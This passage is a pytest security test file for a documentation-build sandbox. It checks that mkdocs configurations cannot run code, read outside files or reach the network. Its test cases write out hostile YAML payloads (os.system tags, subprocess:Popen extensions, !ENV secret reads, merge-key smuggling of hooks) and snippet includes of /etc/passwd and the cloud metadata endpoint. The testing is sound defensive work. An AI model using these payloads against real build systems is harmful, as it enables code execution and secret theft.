"""Security table G: an author's mkdocs.yml and docs tree never run Python, read a file
outside the docs folder, write outside the site or reach the network at build time.

Every source tree is written into ``tmp_path`` and goes through the real pipeline
(`techdocs.generate.pipeline.generate`, the management command, or the build job with
the ``repos`` fixture where the published site matters). Each payload would leave a
trace if it ran: a marker file, a line in the build log, a token from a file outside
the docs folder or from the environment in the output. Where a check is a second
layer (the child's audit hooks, its environment, its network namespace), a test hands
that layer an unchecked configuration or a stand-in child, so it is shown to hold on
its own.
"""

from __future__ import annotations

import base64
import json
import os
import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import yaml
from celery.exceptions import SoftTimeLimitExceeded
from django.conf import settings as django_settings
from django.core.files.storage import FileSystemStorage
from django.core.management import CommandError, call_command
from django.test import Client
from mkdocs.config import load_config
from mkdocs.utils.yaml import get_yaml_loader

from portal.models import JobStatus
from techdocs import config as techdocs_config
from techdocs.generate import pipeline, sandbox
from techdocs.generate.mkdocs_config import clean_config
from techdocs.generate.mkdocs_yaml import load_mkdocs_yaml
from techdocs.generate.pipeline import METADATA_FILE, generate
from techdocs.generate.problems import DocsProblem, ProblemKind
from techdocs.generate.sandbox import BOOTSTRAP, BuildLimits, child_environment, run_mkdocs
from techdocs.generate.source_tree import check_tree
from techdocs.models import BuildState
from techdocs.publish import publish_directory
from techdocs.references import Triplet
from tests.support.docs_sites import PNG, write_files, write_site
from tests.techdocs.conftest import DocsRepos, build, site

MINIMAL = "site_name: Handbook\nplugins:\n  - techdocs-core\n"
HOME = "# Home\n\nThe handbook.\n"
#: A module that announces itself in the build log and leaves a marker when imported.
EVIL_PY = """\
import pathlib
print({announce!r}, flush=True)
pathlib.Path({marker!r}).write_text("ran")
"""


@pytest.fixture
def token() -> str:
    return f"greenroom-secret-{uuid.uuid4().hex}"


@pytest.fixture(autouse=True)
def portal_secrets(monkeypatch: pytest.MonkeyPatch) -> str:
    """Secrets in the portal's environment, as a worker has them: no build may show
    them (`built` and `refused` check every log and output)."""
    secret = f"greenroom-env-secret-{uuid.uuid4().hex}"
    for name in ("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "DJANGO_SECRET_KEY"):
        monkeypatch.setenv(name, secret)
    return secret


def _portal_secret_absent(log: Log, *texts: str, output: Path) -> None:
    secret = os.environ["GITHUB_TOKEN"]
    assert secret not in log.text and not any(secret in text for text in texts)
    assert not output.exists() or leaks(secret, output) == []


def _path_of(name: str) -> str:
    head, _, extension = name.rpartition("__")
    return f"{head.replace('__', '/')}.{extension}"


def repo_with(tmp_path: Path, mkdocs_yml: str, **files: str | bytes) -> Path:
    """``tmp_path/repo`` with ``mkdocs_yml``, ``docs/index.md`` and ``files``, named with
    ``__`` for ``/`` and the last ``__`` for ``.`` (``docs__img__a__png``: docs/img/a.png)."""
    extra = {_path_of(name): content for name, content in files.items()}
    return write_files(tmp_path / "repo",
                       {"mkdocs.yml": mkdocs_yml, "docs/index.md": HOME, **extra})  # fmt: skip


def outside_secret(tmp_path: Path, token: str) -> Path:
    """A file outside any docs tree holding ``token``."""
    return write_files(tmp_path / "outside", {"secret.txt": f"{token}\n"}) / "secret.txt"


class Log:
    """The build's log callback, keeping every line as ``level: message``."""

    def __init__(self) -> None:
        self.lines: list[str] = []

    def __call__(self, level: str, message: str) -> None:
        self.lines.append(f"{level}: {message}")

    @property
    def text(self) -> str:
        return "\n".join(self.lines)


def refused(source: Path, output: Path, **kwargs: Any) -> tuple[DocsProblem, Log]:
    """The DocsProblem ``generate`` raises for ``source``."""
    log = Log()
    with pytest.raises(DocsProblem) as caught:
        generate(source, output, site_name="Handbook", log=log, **kwargs)
    _portal_secret_absent(log, caught.value.message, output=output)
    return caught.value, log


def built(source: Path, output: Path, **kwargs: Any) -> tuple[dict[str, Any], Log]:
    log = Log()
    try:
        metadata = generate(source, output, site_name="Handbook", log=log, **kwargs)
    except DocsProblem as problem:
        pytest.fail(f"the build failed: {problem.kind}: {problem.message}\n{log.text}")
    _portal_secret_absent(log, json.dumps(metadata), output=output)
    return metadata, log


def unchecked(config: dict[str, Any], project: Path, output: Path) -> tuple[DocsProblem, Log]:
    """Run the confined child on ``config`` as given, skipping the config checks: what
    the sandbox alone does with a payload."""
    log = Log()
    with pytest.raises(DocsProblem) as caught:
        run_mkdocs(config, project_dir=project, site_dir=output, on_log=log)
    return caught.value, log


def leaks(needle: str | bytes, *roots: Path) -> list[str]:
    """Files under ``roots`` (links not followed) whose name or bytes hold ``needle``."""
    raw = needle.encode() if isinstance(needle, str) else needle
    found: list[str] = []
    for root in roots:
        for directory, _folders, names in os.walk(root):
            for name in names:
                path = Path(directory, name)
                if raw in name.encode() or (not path.is_symlink() and raw in path.read_bytes()):
                    found.append(str(path))
    return found


def assert_refused_config(problem: DocsProblem, key: str, *words: str) -> None:
    assert problem.kind == ProblemKind.REFUSED_CONFIG, problem.message
    assert problem.key == key, problem.message
    assert key in problem.message
    for word in words:
        assert word in problem.message


def mkdocs_reads(text: str) -> Any:
    """What mkdocs' own loader (PyYAML's unsafe Loader plus !ENV and !relative) makes of
    ``text``: the canary that a payload is live if the raw file ever reached mkdocs."""
    return yaml.load(text, Loader=get_yaml_loader())  # noqa: S506


def fake_child(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, body: str) -> None:
    """Swap the build child for a script (``request`` is the parsed request file)."""
    script = tmp_path / "fake_child.py"
    script.write_text("import json, os, socket, subprocess, sys, time\n"
                      "request = json.load(open(sys.argv[1]))\n" + body)  # fmt: skip
    monkeypatch.setattr(sandbox, "BOOTSTRAP", script)


# --- G1: hooks ----------------------------------------------------------------------


@pytest.mark.parametrize("hook", ["evil.py", "docs/evil.py", "OUTSIDE"])
def test_g1_hooks_are_refused_and_never_imported(tmp_path: Path, token: str, hook: str) -> None:
    marker = tmp_path / "hook-ran"
    evil = EVIL_PY.format(announce=f"HOOK-{token}", marker=str(marker))
    outside = write_files(tmp_path / "outside", {"evil.py": evil}) / "evil.py"
    hook = str(outside) if hook == "OUTSIDE" else hook
    repo = repo_with(tmp_path, f"{MINIMAL}hooks:\n  - {hook}\n", evil__py=evil, docs__evil__py=evil)
    problem, log = refused(repo, tmp_path / "site")
    assert_refused_config(problem, "hooks", "Python code")
    assert not marker.exists()
    assert f"HOOK-{token}" not in log.text
    assert not (tmp_path / "site").exists()


@pytest.mark.parametrize("where", ["docs", "checkout"])
def test_g1_the_sandbox_alone_stops_a_hook(tmp_path: Path, token: str, where: str) -> None:
    """Handed ``hooks`` unchecked, the child imports a hook from the docs folder (its
    announcement reaches the log) but refuses its write; one from the rest of the
    checkout it cannot even read."""
    marker = tmp_path / "hook-ran"
    evil = EVIL_PY.format(announce=f"HOOK-{token}", marker=str(marker))
    repo = repo_with(tmp_path, MINIMAL, evil__py=evil, docs__evil__py=evil)
    hook = repo / "docs" / "evil.py" if where == "docs" else repo / "evil.py"
    problem, log = unchecked({"site_name": "x", "docs_dir": str(repo / "docs"),
                              "hooks": [str(hook)]}, repo, tmp_path / "site")  # fmt: skip
    assert not marker.exists()
    if where == "docs":
        assert f"HOOK-{token}" in log.text  # the payload is live: only the sandbox stops it
        assert f"may not write {marker}" in problem.message
    else:
        assert f"HOOK-{token}" not in log.text
        assert problem.kind == ProblemKind.REFUSED_FILE
        assert f"may not read {hook}" in problem.message


# --- G2: INHERIT --------------------------------------------------------------------


@pytest.mark.parametrize("form", ["relative", "absolute", "literal"])
def test_g2_inherit_is_refused(tmp_path: Path, token: str, form: str) -> None:
    secrets = write_files(tmp_path / "srv", {"secrets.yml": f"site_description: {token}\n"}) / \
        "secrets.yml"  # fmt: skip
    repo = tmp_path / "checkouts" / "a" / "repo"
    target = {"relative": os.path.relpath(secrets, repo), "absolute": str(secrets),
              "literal": "../../../../srv/secrets.yml"}[form]  # fmt: skip
    write_files(repo, {"mkdocs.yml": f"INHERIT: {target}\n{MINIMAL}", "docs/index.md": HOME})
    if form != "literal":  # the canary: mkdocs joins the path and reads the file
        assert load_config(str(repo / "mkdocs.yml"))["site_description"] == token
    output = tmp_path / "site"
    with pytest.raises(CommandError) as caught:
        call_command("techdocs", "generate", "--source-dir", str(repo), "--output-dir",
                     str(output))  # fmt: skip
    assert "mkdocs.yml: INHERIT is not allowed" in str(caught.value)
    assert token not in str(caught.value)
    assert not output.exists() or not any(output.iterdir())
    problem, _log = refused(repo, output)
    assert_refused_config(problem, "INHERIT")


# --- G3: Python tags ----------------------------------------------------------------


@pytest.mark.parametrize(("yaml_text", "key"), [
    ("site_name: !!python/object/apply:os.mkdir [MARKER]\n", "!!python/object/apply:os.mkdir"),
    ('site_name: !!python/object/apply:os.system ["id"]\n', "!!python/object/apply:os.system"),
    ("site_name: !!python/name:os.system\n", "!!python/name:os.system"),
    ("site_name: !!python/object/new:pathlib.Path [MARKER]\n",
     "!!python/object/new:pathlib.Path"),
    ("site_name: !!python/module:os\n", "!!python/module:os"),
    ("markdown_extensions:\n  - pymdownx.superfences:\n      custom_fences:\n"
     "        - name: x\n          class: x\n          format: !!python/name:os.system\n",
     "!!python/name:os.system"),
    ("site_name: x\nextra: {banner: !evil/tag boom}\n", "!evil/tag"),
])  # fmt: skip
def test_g3_python_tags_are_refused_before_anything_runs(tmp_path: Path, yaml_text: str,
                                                         key: str) -> None:  # fmt: skip
    marker = tmp_path / "tag-ran"
    text = yaml_text.replace("MARKER", repr(str(marker)))
    problem, _log = refused(repo_with(tmp_path, text + MINIMAL.split("\n", 1)[1]),
                            tmp_path / "site")  # fmt: skip
    assert_refused_config(problem, key, "line ")
    assert not marker.exists()
    assert not (tmp_path / "site").exists()
    if "os.mkdir" in yaml_text:  # the canary: mkdocs' own loader runs it
        canary = tmp_path / "canary"
        mkdocs_reads(yaml_text.replace("MARKER", repr(str(canary))))
        assert canary.is_dir()


def test_g3_marker_mappings_name_only_allowed_objects(tmp_path: Path) -> None:
    """The clean config carries allowed names as ``{"!!python/name": ...}`` mappings; an
    author writing that mapping by hand names nothing more."""
    docs = write_files(tmp_path / "repo", {"docs/index.md": HOME}) / "docs"

    def clean(text: str) -> dict[str, Any]:
        return clean_config(load_mkdocs_yaml(text), docs_root=docs.parent,
                            site_name_default="x").config  # fmt: skip

    fences = "markdown_extensions:\n  - pymdownx.superfences:\n      custom_fences:\n" \
             "        - name: x\n          class: x\n          format: %s\n"  # fmt: skip
    allowed = clean(fences % "!!python/name:pymdownx.superfences.fence_code_format")
    assert allowed["markdown_extensions"] == [{"pymdownx.superfences": {"custom_fences": [
        {"name": "x", "class": "x", "format": {"!!python/name":
                                               "pymdownx.superfences.fence_code_format"}}]}}]
    with pytest.raises(DocsProblem) as caught:
        clean(fences % "{'!!python/name': os.system}")
    assert_refused_config(caught.value,
                          "markdown_extensions.pymdownx.superfences.custom_fences[0].format",
                          "'os.system'")  # fmt: skip
    with pytest.raises(DocsProblem) as caught:  # not even an allowed one outside its option
        clean("extra: {x: {'!!python/name': pymdownx.superfences.fence_code_format}}\n")
    assert_refused_config(caught.value, "extra.x")


def test_g3_mkdocs_never_reads_the_repositorys_file(
        tmp_path: Path, token: str, monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    """The file is swapped for a payload right after it was checked: the build still
    uses the checked configuration, so mkdocs never saw the file."""
    marker = tmp_path / "tag-ran"
    repo = repo_with(tmp_path, f"site_name: Safe handbook\n{MINIMAL.split(chr(10), 1)[1]}",
                     docs__evil__py=EVIL_PY.format(announce=f"HOOK-{token}",
                                                   marker=str(tmp_path / "hook-ran")))  # fmt: skip
    checked = pipeline.clean_config

    def check_then_swap(*args: Any, **kwargs: Any) -> Any:
        clean = checked(*args, **kwargs)
        (repo / "mkdocs.yml").write_text(
            f"site_name: !!python/object/apply:os.mkdir [{str(marker)!r}]\n"
            "hooks: [docs/evil.py]\nplugins: [techdocs-core]\n")  # fmt: skip
        return clean

    monkeypatch.setattr(pipeline, "clean_config", check_then_swap)
    metadata, log = built(repo, tmp_path / "site")
    assert metadata["site_name"] == "Safe handbook"
    assert not marker.exists() and not (tmp_path / "hook-ran").exists()
    assert f"HOOK-{token}" not in log.text


# --- G4: !ENV and the build's environment -------------------------------------------


@pytest.mark.parametrize("yaml_text", [
    "site_name: !ENV AWS_SECRET_ACCESS_KEY\n",
    "site_name: !ENV [AWS_SECRET_ACCESS_KEY, Handbook]\n",
    "site_name: x\nextra:\n  key: !ENV AWS_SECRET_ACCESS_KEY\n",
    "site_name: x\nrepo_url: !relative $config_dir\n",
])  # fmt: skip
def test_g4_env_and_relative_tags_are_refused(tmp_path: Path, token: str, yaml_text: str,
                                              monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", token)
    if "!ENV" in yaml_text:  # the canary: mkdocs' loader would put the secret in the site
        assert token in json.dumps(mkdocs_reads(yaml_text))
    problem, log = refused(repo_with(tmp_path, yaml_text + "plugins: [techdocs-core]\n"),
                           tmp_path / "site")  # fmt: skip
    tag = "!ENV" if "!ENV" in yaml_text else "!relative"
    assert_refused_config(problem, tag, "environment variables")
    assert token not in problem.message and token not in log.text
    assert not (tmp_path / "site").exists()


def test_g4_the_build_process_gets_no_secrets(tmp_path: Path, token: str,
                                             monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    secrets = ("AWS_SECRET_ACCESS_KEY", "AWS_ACCESS_KEY_ID", "GITHUB_TOKEN", "DATABASE_URL",
               "DJANGO_SECRET_KEY", "GREENROOM_TEST_SECRET")  # fmt: skip
    for name in secrets:
        monkeypatch.setenv(name, token)
    fake_child(tmp_path, monkeypatch,
               "open(os.path.join(request['site_dir'], 'seen.json'), 'w').write(json.dumps(\n"
               "    {'env': dict(os.environ), 'isolated': sys.flags.isolated,\n"
               "     'request': open(sys.argv[1]).read()}))\n")  # fmt: skip
    repo = repo_with(tmp_path, MINIMAL)
    run_mkdocs({"site_name": "x"}, project_dir=repo, site_dir=tmp_path / "site")
    seen = json.loads((tmp_path / "site" / "seen.json").read_text())
    assert token not in json.dumps(seen)
    assert not set(secrets) & set(seen["env"])
    assert set(seen["env"]) <= set(child_environment(tmp_path).keys())
    assert seen["env"]["HOME"] == seen["env"]["TMPDIR"] != os.environ.get("HOME")
    assert not Path(seen["env"]["HOME"]).exists()  # the private folder is gone afterwards
    assert seen["isolated"] == 1  # python -I: no PYTHONPATH, user site or current folder


# --- G5: docs_dir -------------------------------------------------------------------


@pytest.mark.parametrize("docs_dir", ["../../etc/", "/etc", "..", "docs/../../outside",
                                      "../outside", "OUTSIDE", "C:/outside"])  # fmt: skip
def test_g5_docs_dir_must_stay_in_the_checkout(tmp_path: Path, token: str, docs_dir: str) -> None:
    outside = write_files(tmp_path / "outside", {"index.md": f"# {token}\n"})
    docs_dir = str(outside) if docs_dir == "OUTSIDE" else docs_dir
    problem, _log = refused(repo_with(tmp_path, f"{MINIMAL}docs_dir: {docs_dir}\n"),
                            tmp_path / "site")  # fmt: skip
    assert_refused_config(problem, "docs_dir", repr(docs_dir))
    assert "inside the repository" in problem.message or "outside" in problem.message
    assert not (tmp_path / "site").exists()


def test_g5_a_symlinked_docs_folder_is_refused(tmp_path: Path, token: str) -> None:
    outside = write_files(tmp_path / "outside", {"index.md": f"# {token}\n"})
    repo = write_files(tmp_path / "repo", {"mkdocs.yml": MINIMAL})
    (repo / "docs").symlink_to(outside, target_is_directory=True)
    problem, _log = refused(repo, tmp_path / "site")
    assert problem.kind == ProblemKind.REFUSED_FILE and problem.key == "docs"
    assert "docs is a symbolic link that leads outside the repository" in problem.message
    assert not (tmp_path / "site").exists()
    # The config check holds on its own too (it resolves links before comparing).
    with pytest.raises(DocsProblem) as caught:
        clean_config({"docs_dir": "docs"}, docs_root=repo, site_name_default="x")
    assert_refused_config(caught.value, "docs_dir", "leads outside the repository")


# --- G6: site_dir -------------------------------------------------------------------


@pytest.mark.parametrize("site_dir", ["/var/www/other-site", "../other-site", "site"])
def test_g6_site_dir_is_dropped_from_the_config(tmp_path: Path, site_dir: str) -> None:
    repo = repo_with(tmp_path, MINIMAL)
    clean = clean_config(load_mkdocs_yaml(f"{MINIMAL}site_dir: {site_dir}\n"), docs_root=repo,
                         site_name_default="x")  # fmt: skip
    assert "site_dir" not in clean.config
    assert clean.warnings == ["mkdocs.yml: site_dir ignored (Greenroom sets these)"]


def test_g6_the_site_lands_only_in_our_output(tmp_path: Path) -> None:
    other = tmp_path / "www" / "other-site"
    repo = repo_with(tmp_path, f"{MINIMAL}site_dir: {other}\n")
    metadata, log = built(repo, tmp_path / "site")
    assert "index.html" in metadata["files"] and (tmp_path / "site" / "index.html").is_file()
    assert not other.exists() and not (tmp_path / "www").exists()
    assert "warning: mkdocs.yml: site_dir ignored (Greenroom sets these)" in log.lines


# --- G7: theme ----------------------------------------------------------------------


@pytest.mark.parametrize(("theme", "key"), [
    ("{name: material, custom_dir: overrides}", "theme.custom_dir"),
    ("{name: mkdocs, custom_dir: docs/overrides}", "theme.custom_dir"),
    ("{name: material, static_templates: [evil.html]}", "theme.static_templates"),
    ("{name: material, locale: en}", "theme.locale"),
    ("readthedocs", "theme.name"),
    ("{name: ../evil_theme}", "theme.name"),
    ("{name: material, logo: ../../outside/secret.txt}", "theme.logo"),
    ("{name: material, favicon: 'https://evil.example/x.ico'}", "theme.favicon"),
])  # fmt: skip
def test_g7_theme_overrides_are_refused(tmp_path: Path, token: str, theme: str,
                                        key: str) -> None:  # fmt: skip
    outside_secret(tmp_path, token)
    template = f"{{{{ config.site_name }}}} {token} {{% include 'partials/footer.html' %}}\n"
    repo = repo_with(tmp_path, f"{MINIMAL}theme: {theme}\n", overrides__main__html=template,
                     docs__overrides__main__html=template, evil__html=template)  # fmt: skip
    problem, _log = refused(repo, tmp_path / "site")
    assert_refused_config(problem, key)
    assert not (tmp_path / "site").exists()


def test_g7_the_allowed_theme_settings_are_kept(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, MINIMAL, docs__img__logo__png=PNG)
    clean = clean_config(load_mkdocs_yaml(
        "theme:\n  name: material\n  logo: img/logo.png\n  features: [navigation.tabs]\n"
        "  palette: {primary: indigo}\n"), docs_root=repo, site_name_default="x")  # fmt: skip
    assert clean.config["theme"] == {"name": "material", "logo": "img/logo.png", "font": False,
                                     "features": ["navigation.tabs"],
                                     "palette": {"primary": "indigo"}}  # fmt: skip


# --- G8 / G9 / G10: markdown_extensions ---------------------------------------------


@pytest.mark.parametrize(("extensions", "key", "why"), [
    ("  - 'subprocess:Popen': {args: ['/bin/sh', '-c', 'touch MARKER']}\n",
     "markdown_extensions.subprocess:Popen", "names Python code"),
    ("  - 'os:system': {command: 'touch MARKER'}\n", "markdown_extensions.os:system",
     "names Python code"),
    ("  - 'markdown.extensions.toc:TocExtension'\n",
     "markdown_extensions.markdown.extensions.toc:TocExtension", "names Python code"),
    ("  - evil\n", "markdown_extensions.evil", "not available"),
    ("  - docs.evil\n", "markdown_extensions.docs.evil", "not available"),
    ("  - pymdownx.util\n", "markdown_extensions.pymdownx.util", "not available"),
    ("  - toc\n  - 'os:system'\n", "markdown_extensions.os:system", "names Python code"),
])  # fmt: skip
def test_g8_extensions_naming_python_code_are_refused(tmp_path: Path, token: str,
                                                      extensions: str, key: str,
                                                      why: str) -> None:  # fmt: skip
    marker = tmp_path / "extension-ran"
    evil = EVIL_PY.format(announce=f"EXT-{token}", marker=str(marker))
    text = f"{MINIMAL}markdown_extensions:\n{extensions.replace('MARKER', str(marker))}"
    problem, log = refused(repo_with(tmp_path, text, evil__py=evil, docs__evil__py=evil),
                           tmp_path / "site")  # fmt: skip
    assert_refused_config(problem, key, why)
    assert not marker.exists() and f"EXT-{token}" not in log.text
    assert not (tmp_path / "site").exists()


def test_g8_the_sandbox_alone_refuses_to_start_a_program(tmp_path: Path) -> None:
    """Handed ``subprocess:Popen`` unchecked, Python-Markdown instantiates it; the
    child's guard refuses the program."""
    marker = tmp_path / "program-ran"
    repo = repo_with(tmp_path, MINIMAL)
    problem, _log = unchecked({"site_name": "x", "docs_dir": str(repo / "docs"),
                               "markdown_extensions": [{"subprocess:Popen": {"args": [
                                   "/bin/sh", "-c", f"touch {marker}"]}}]},
                              repo, tmp_path / "site")  # fmt: skip
    assert "may not start a program (subprocess.Popen)" in problem.message
    assert not marker.exists()


@pytest.mark.parametrize(("text", "key"), [
    ("markdown_extensions: {toc: {}, 'os:system': {command: 'touch MARKER'}}\n",
     "markdown_extensions.os:system"),
    ("markdown_extensions:\n  toc: {permalink: true}\n"
     "  'subprocess:Popen': {args: [touch, MARKER]}\n",
     "markdown_extensions.subprocess:Popen"),
    ("plugins: {techdocs-core: {},\n"
     "          mkdocs-simple-hooks: {hooks: {on_pre_build: 'docs.evil:run'}}}\n",
     "plugins.mkdocs-simple-hooks"),
])  # fmt: skip
def test_g9_the_mapping_form_is_checked_the_same(tmp_path: Path, text: str, key: str) -> None:
    marker = tmp_path / "extension-ran"
    problem, _log = refused(repo_with(tmp_path, "site_name: x\n" + text.replace(
        "MARKER", str(marker))), tmp_path / "site")  # fmt: skip
    assert_refused_config(problem, key)
    assert not marker.exists() and not (tmp_path / "site").exists()


def test_g9_the_mapping_form_of_allowed_extensions_is_kept(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, MINIMAL)
    clean = clean_config(load_mkdocs_yaml(
        "markdown_extensions: {toc: {permalink: true}, admonition: {}}\n"), docs_root=repo,
        site_name_default="x")  # fmt: skip
    assert clean.config["markdown_extensions"] == [{"toc": {"permalink": True}}, "admonition"]


@pytest.mark.parametrize(("item", "key"), [
    ("  - toc: {permalink: true}\n    'os:system': {command: 'touch MARKER'}\n",
     "markdown_extensions.os:system"),
    ("  - 'subprocess:Popen': {args: [touch, MARKER]}\n    toc: {}\n",
     "markdown_extensions.subprocess:Popen"),
    ("  - admonition\n  - toc: {}\n    attr_list: {}\n    evil: {}\n", "markdown_extensions.evil"),
])  # fmt: skip
def test_g10_every_key_of_a_list_item_is_checked(tmp_path: Path, item: str, key: str) -> None:
    marker = tmp_path / "extension-ran"
    text = f"{MINIMAL}markdown_extensions:\n{item.replace('MARKER', str(marker))}"
    problem, _log = refused(repo_with(tmp_path, text), tmp_path / "site")
    assert_refused_config(problem, key)
    assert not marker.exists() and not (tmp_path / "site").exists()


def test_g10_every_key_of_a_plugin_item_is_checked(tmp_path: Path) -> None:
    text = "site_name: x\nplugins:\n  - search: {}\n    macros: {}\n"
    problem, _log = refused(repo_with(tmp_path, text), tmp_path / "site")
    assert_refused_config(problem, "plugins.macros", "not available in Greenroom builds")


# --- G11: merge keys and parser differentials ---------------------------------------

SMUGGLED = {
    "merge_key_hooks": ("extra:\n  hidden: &array_hooks\n    hooks: [docs/evil.py]\n"
                        "<<: *array_hooks\nsite_name: x\n", "hooks"),
    "merge_list": ("extra:\n  a: &safe {site_description: ok}\n"
                   "  b: &hooks {hooks: [docs/evil.py]}\n"
                   "<<: [*safe, *hooks]\nsite_name: x\n", "hooks"),
    "parser_differential_hooks": ("extra:\n  a: &safe {site_description: ok}\n"
                                  "  b: &hooks {hooks: [docs/evil.py]}\n"
                                  "<<: *safe\n<<: *hooks\nsite_name: x\n", "<<"),
    "merge_into_an_extension_item": ("extra:\n  e: &ext {'os:system': {command: id}}\n"
                                     "markdown_extensions:\n  - <<: *ext\n",
                                     "markdown_extensions.os:system"),
    "alias_as_key": ("extra: {k: &h hooks}\n*h : [docs/evil.py]\nsite_name: x\n", "hooks"),
    "duplicate_plugins": ("plugins: [techdocs-core]\nplugins: [macros]\nsite_name: x\n",
                          "plugins"),
}  # fmt: skip


@pytest.mark.parametrize("name", list(SMUGGLED))
def test_g11_smuggled_keys_are_seen_as_pyyaml_sees_them(tmp_path: Path, token: str,
                                                        name: str) -> None:  # fmt: skip
    text, key = SMUGGLED[name]
    seen = mkdocs_reads(text)  # the canary: mkdocs (PyYAML) sees the smuggled setting
    if key == "markdown_extensions.os:system":
        assert seen["markdown_extensions"] == [{"os:system": {"command": "id"}}]
    elif key == "plugins":
        assert seen["plugins"] == ["macros"]  # PyYAML keeps the last one
    else:
        assert seen["hooks"] == ["docs/evil.py"]
    marker = tmp_path / "hook-ran"
    repo = repo_with(tmp_path, text, docs__evil__py=EVIL_PY.format(announce=f"HOOK-{token}",
                                                                   marker=str(marker)))
    problem, log = refused(repo, tmp_path / "site")
    assert_refused_config(problem, key)
    if key in ("<<", "plugins"):
        assert "appears twice in one mapping" in problem.message
    assert not marker.exists() and f"HOOK-{token}" not in log.text


@pytest.mark.parametrize("text", [
    "base: &b {site_name: base, site_description: d}\n<<: *b\nsite_name: own\n",
    "a: &a {site_name: a}\nb: &b {site_name: b, copyright: c}\n<<: [*a, *b]\n",
    "x: &x {permalink: true}\nmarkdown_extensions:\n  - toc: {<<: *x, toc_depth: 2}\n",
])  # fmt: skip
def test_g11_merges_read_exactly_as_mkdocs_reads_them(text: str) -> None:
    assert load_mkdocs_yaml(text) == mkdocs_reads(text)


# --- G12: snippets and other file-reading extensions --------------------------------


@pytest.mark.parametrize(("options", "key"), [
    ("{base_path: ['/'], url_download: true, check_paths: false}", "url_download"),
    ("{base_path: ['/']}", "base_path"),
    ("{base_path: '..'}", "base_path"),
    ("{base_path: ['.', '../../outside']}", "base_path"),
    ("{url_download: true}", "url_download"),
    ("{check_paths: false}", ""),
    ("{restrict_base_path: false}", ""),
])  # fmt: skip
def test_g12_snippet_options_that_reach_outside_are_refused(tmp_path: Path, options: str,
                                                            key: str) -> None:  # fmt: skip
    text = f"{MINIMAL}markdown_extensions:\n  - pymdownx.snippets: {options}\n"
    problem, _log = refused(repo_with(tmp_path, text), tmp_path / "site")
    assert_refused_config(problem, "markdown_extensions.pymdownx.snippets" +
                          (f".{key}" if key else ""))  # fmt: skip
    assert not (tmp_path / "site").exists()


def test_g12_snippets_are_forced_into_the_docs_folder(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, MINIMAL)
    clean = clean_config(load_mkdocs_yaml(
        "markdown_extensions:\n  - pymdownx.snippets: {base_path: ['.'], auto_append: [x.md]}\n"),
        docs_root=repo, site_name_default="x")  # fmt: skip
    assert clean.config["markdown_extensions"] == [{"pymdownx.snippets": {
        "base_path": [str((repo / "docs").resolve())], "auto_append": ["x.md"],
        "restrict_base_path": True, "url_download": False, "check_paths": True}}]  # fmt: skip


@pytest.fixture
def http_server() -> Iterator[tuple[str, list[str]]]:
    """A local server that records every request it gets."""
    hits: list[str] = []

    class Recording(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"FETCHED-FROM-THE-NETWORK\n")

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Recording)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()


@pytest.mark.parametrize("target", ["OUTSIDE", "../../outside/secret.txt", "../private.txt",
                                    "/etc/passwd", "SERVER",
                                    "http://169.254.169.254/latest/meta-data/"])  # fmt: skip
def test_g12_authored_snippets_include_nothing_from_outside_the_docs(
        tmp_path: Path, token: str, target: str,
        http_server: tuple[str, list[str]]) -> None:  # fmt: skip
    secret = outside_secret(tmp_path, token)
    url, hits = http_server
    target = {"OUTSIDE": str(secret), "SERVER": f"{url}/secret.txt"}.get(target, target)
    repo = repo_with(tmp_path, f"{MINIMAL}markdown_extensions:\n  - pymdownx.snippets\n",
                     private__txt=f"{token}\n",
                     docs__index__md=f'# Home\n\n--8<-- "{target}"\n')  # fmt: skip
    problem, _log = refused(repo, tmp_path / "site")
    assert problem.kind == ProblemKind.BUILD_FAILED
    assert f"Snippet at path '{target}' could not be found" in problem.message
    assert token not in problem.message and "FETCHED" not in problem.message
    assert leaks(token, tmp_path / "site") == [] and leaks("FETCHED", tmp_path / "site") == []
    assert hits == []


def test_g12_an_authored_snippet_inside_the_docs_is_included(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, f"{MINIMAL}markdown_extensions:\n  - pymdownx.snippets\n",
                     docs__index__md='# Home\n\n--8<-- "parts/included.md"\n',
                     docs__parts__included__md="INCLUDED-FROM-THE-DOCS\n")  # fmt: skip
    built(repo, tmp_path / "site")
    assert "INCLUDED-FROM-THE-DOCS" in (tmp_path / "site" / "index.html").read_text()


@pytest.mark.parametrize("target", ["private.txt", "docs/parts/included.md", "OUTSIDE",
                                    "SERVER"])  # fmt: skip
def test_g12_default_snippets_read_only_the_docs_folder(
        tmp_path: Path, token: str, target: str,
        http_server: tuple[str, list[str]]) -> None:  # fmt: skip
    """techdocs-core enables snippets itself, based at the checkout's root: a snippet
    of the docs folder (written from the root, as in Backstage) is included, the rest
    of the checkout is refused, and the outside and the network are never read."""
    secret = outside_secret(tmp_path, token)
    url, hits = http_server
    shown = {"OUTSIDE": str(secret), "SERVER": f"{url}/secret.txt"}.get(target, target)
    repo = repo_with(tmp_path, MINIMAL, private__txt=f"{token}\n",
                     docs__index__md=f'# Home\n\n--8<-- "{shown}"\n',
                     docs__parts__included__md="INCLUDED-FROM-THE-DOCS\n")  # fmt: skip
    output = tmp_path / "site"
    if target == "private.txt":
        problem, _log = refused(repo, output)
        assert problem.kind == ProblemKind.REFUSED_FILE
        assert f"may not read {(repo / 'private.txt').resolve()}" in problem.message
    else:
        built(repo, output)
        assert ("INCLUDED-FROM-THE-DOCS" in (output / "index.html").read_text()) == \
            (target == "docs/parts/included.md")  # fmt: skip
    assert leaks(token, output) == [] and leaks("FETCHED", output) == [] and hits == []


def test_g12_b64_embeds_images_of_the_docs_folder_only(tmp_path: Path, token: str) -> None:
    secret_png = token.encode()
